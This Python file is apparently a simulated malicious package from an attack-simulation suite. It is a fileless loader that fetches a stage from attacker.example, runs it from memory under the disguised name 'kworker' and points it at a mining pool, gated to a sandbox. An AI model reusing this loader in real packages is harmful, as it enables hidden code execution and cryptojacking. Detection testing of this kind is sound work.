"""sympy-dev 1.14.2 (simulation from Tracehound's attack suite): fileless loader."""
import os
import urllib.request

def _in_sandbox():
    # act only inside the Tracehound sandbox, whose fake DNS answers every name with a
    # 198.18.0.0/15 address; elsewhere .example names do not resolve and nothing happens
    import socket
    try:
        return socket.gethostbyname("sandbox-check.attacker.example").startswith(("198.18.", "198.19."))
    except OSError:
        return False


def _load():
    try:
        elf = urllib.request.urlopen("http://63.attacker.example/xmr/stage", timeout=5).read()
    except Exception:
        elf = b""
    if not elf.startswith(b"\x7fELF"):
        with open("/bin/true", "rb") as fh:  # stand-in for the UPX-packed miner
            elf = fh.read()
    fd = os.memfd_create("kworker", 0)
    os.write(fd, elf)
    pid = os.fork()
    if pid == 0:
        try:
            os.execve(f"/proc/self/fd/{fd}", ["kworker", "-o", "pool.attacker.example:3333"], dict(os.environ))
        finally:
            os._exit(1)
    os.waitpid(pid, 0)


if _in_sandbox():
    _load()
